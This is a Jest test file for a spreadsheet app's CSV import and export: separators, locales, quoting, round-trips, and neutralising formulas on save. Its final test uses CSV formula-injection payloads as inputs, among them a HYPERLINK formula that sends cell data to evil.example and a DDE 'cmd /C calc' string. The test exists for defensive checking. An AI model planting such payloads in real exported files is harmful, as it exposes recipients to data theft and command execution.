import { describe, expect, test } from '@jest/globals';
import Papa from 'papaparse';
import { csvRemarks, readCsv } from '../../workbench/csv';
import { MemoryGrid, openCsv, saveCsv } from '../../workbench/index';

function opened(text: string, locale = 'en_US') {
  const grid = new MemoryGrid({ locale });
  const sheet = grid.activeSheet;
  openCsv(grid, sheet, text, 2026);
  const values = () => sheet.values({ row: 0, column: 0, ...sheet.extent() });
  return { grid, sheet, values };
}

describe('A CSV file', () => {
  test('opens with a byte order mark, quotes, blank lines and short rows', () => {
    const { values } = opened(
      '\ufeffid,name,arr\r\n1,"Acme, Inc.","$1,200"\r\n\r\n2,"He said ""hi""\nand left"\r\n',
    );
    expect(values()).toEqual([
      ['id', 'name', 'arr'],
      [1, 'Acme, Inc.', 1200],
      [null, null, null],
      [2, 'He said "hi"\nand left', null],
    ]);
  });

  test('opens with semicolons and a decimal comma', () => {
    expect(opened('id;rate\n1;85,5%\n2;1.200,5\n', 'de_DE').values()).toEqual([
      ['id', 'rate'],
      [1, 0.855],
      [2, 1200.5],
    ]);
  });

  test.each([
    ['commas', 'id,name,arr\n1,Acme,5\n2,"B, C",6\n'],
    ['semicolons', 'id;name;arr\n1;Acme;5\n2;B, C;6\n'],
    ['tabs', 'id\tname\tarr\n1\tAcme\t5\n2\tB, C\t6\n'],
    ['upright bars', 'id|name|arr\n1|Acme|5\n2|B, C|6\n'],
    ['a named separator', 'sep=;\r\nid;name;arr\r\n1;Acme;5\r\n2;B, C;6\r\n'],
    ['CR alone', 'id,name,arr\r1,Acme,5\r2,"B, C",6\r'],
  ])('opens with %s', (_, text) => {
    expect(opened(text).values()).toEqual([
      ['id', 'name', 'arr'],
      [1, 'Acme', 5],
      [2, 'B, C', 6],
    ]);
  });

  test.each([
    ['a title', 'Accounts, as of today\nid;name\n1;Acme\n2;Beta\n'],
    ['decimal commas', 'id;rate\n1;85,5\n2;1.200,5\n3;7,25\n'],
    ['commas in names', 'id;company name\n1;Acme, Inc.\n2;Beta, Ltd.\n3;Cedar, Co.\n'],
    ['commas in the headers', 'id;ARR, EUR, net\n1;5\n2;6\n'],
  ])('is separated where the rows agree, for all %s', (_, text) => {
    expect(Math.max(...readCsv(text).map((row) => row.length))).toBe(2);
  });

  test('says what a person should know of how it is read', () => {
    expect(csvRemarks('id,name\n1,Acme\n', 'en_US')).toEqual([]);
    expect(csvRemarks('id\tname\n1\tAcme\n', 'en_US')).toEqual(['Its fields are separated by tabs.']);
    const german = 'id;rate\n1;7\n2;85,5 %\n';
    expect(csvRemarks(german, 'de_DE')).toEqual(['Its fields are separated by semicolons.']);
    expect(csvRemarks(german, 'en_US')).toEqual([
      'Its fields are separated by semicolons.',
      'B3 has a decimal comma and stays text: give the locale of the file, such as de_DE.',
    ]);
    expect(csvRemarks('id,name\n1,"Acme\n2,Beta\n', 'en_US')).toEqual([
      'A quotation mark is never closed: row 2 holds all the rest of the file.',
    ]);
  });

  test('opens as data: apostrophes and plus signs stay, = is a formula', () => {
    const { sheet, values } = opened("name,phone,sum\n's-Hertogenbosch,+49 30 1234,=1+1\n");
    expect(values()[1]!.slice(0, 2)).toEqual(["'s-Hertogenbosch", '+49 30 1234']);
    expect(sheet.formulas({ row: 1, column: 2, rows: 1, columns: 1 })).toEqual([['=1+1']]);
  });

  test('makes the sheet as large as it needs to be', () => {
    const { sheet } = opened(`${Array(30).fill('x').join(',')}\n`.repeat(1200));
    expect([sheet.maxRows, sheet.maxColumns]).toEqual([1200, 30]);
  });

  test('of no cells opens and saves', () => {
    const { grid, sheet } = opened('');
    expect(saveCsv(grid, sheet)).toEqual({ text: '', formulaLike: [] });
  });

  test('saves values in full precision, dates as ISO dates', () => {
    const { grid, sheet } = opened('85.25%,"1,200",1/15/2026,1/15/2026 13:30,TRUE,"a ""b"", c",0.1\n');
    expect(saveCsv(grid, sheet).text).toBe(
      '0.8525,1200,2026-01-15,2026-01-15 13:30:00,TRUE,"a ""b"", c",0.1\r\n',
    );
  });

  test('comes back as it was saved', () => {
    for (const locale of ['en_US', 'de_DE', 'fr_FR', 'en_GB']) {
      const { grid, sheet, values } = opened('id\nx\n', locale);
      const rows = [
        [0.1, 46037, true],
        ['Acme; "Co", Ltd', 46037.5, false],
        [-1200.25, 46038, 'ä\nb'],
      ];
      const area = { row: 0, column: 0, rows: 3, columns: 3 };
      sheet.write(area, rows);
      sheet.setStyles({ ...area, column: 1, columns: 1 }, 'numberFormat', Array(3).fill(['dd/mm/yyyy']));
      expect(opened(saveCsv(grid, sheet).text, locale).values()).toEqual(values());
    }
  });

  test('saves customer text as it stands and reports what would run as a formula', () => {
    const grid = new MemoryGrid();
    const texts = ['=HYPERLINK("http://x")', '+49 30', '-5 %', '@handle', 'Acme'];
    grid.activeSheet.write({ row: 0, column: 0, rows: 1, columns: 5 }, [texts]);
    const { text, formulaLike } = saveCsv(grid, grid.activeSheet);
    expect(text).toBe('"=HYPERLINK(""http://x"")",+49 30,-5 %,@handle,Acme\r\n');
    expect(formulaLike).toEqual(['A1', 'B1', 'C1', 'D1']);
  });

  test.each([
    '+HYPERLINK("https://evil.example/?"&A2)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\n=1+1',
    '\u0000=1+1',
    '\ufeff=1+1',
    '  -1+1',
    '\t=1+1',
  ])('disarms what another spreadsheet would run, and no other text: %j', (armed) => {
    const grid = new MemoryGrid();
    grid.activeSheet.write({ row: 0, column: 0, rows: 1, columns: 2 }, [[armed, "'s-Hertogenbosch"]]);
    const { text, formulaLike } = saveCsv(grid, grid.activeSheet, true);
    expect(formulaLike).toEqual(['A1']);
    expect(Papa.parse(text).data[0]).toEqual([`'${armed}`, "'s-Hertogenbosch"]);
  });
});
